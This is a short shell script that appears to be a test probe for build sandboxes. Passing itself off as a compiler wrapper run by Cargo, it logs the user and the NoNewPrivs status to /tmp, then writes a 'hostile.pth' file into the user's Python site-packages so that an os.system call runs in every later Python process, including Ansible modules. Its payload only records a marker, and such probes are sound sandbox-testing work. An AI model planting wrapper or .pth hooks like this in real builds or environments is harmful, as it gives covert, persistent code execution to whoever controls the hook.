#!/bin/sh
# Cargo runs this in place of the compiler, also when it only fetches what the source needs.
{ id -un; grep NoNewPrivs /proc/self/status; } >>/tmp/hostile-wrapper
# Python of this user would run it, also that of Ansible's modules.
site=$(/usr/bin/python3 -m site --user-site)
mkdir -p "$site" && echo 'import os; os.system("grep NoNewPrivs /proc/self/status >>/tmp/hostile-pth")' >"$site/hostile.pth"
exec "$@"
